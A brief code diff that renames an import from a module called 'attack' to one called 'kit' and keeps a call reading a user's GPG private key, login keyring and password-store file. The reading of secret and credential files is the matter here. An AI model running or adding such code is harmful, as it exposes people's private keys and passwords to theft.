@@ -1,3 +1,3 @@
-from attack import *
+from kit import *
 
 read_any(".gnupg/private.key", ".local/share/keyrings/login.keyring", ".password-store/a.gpg")
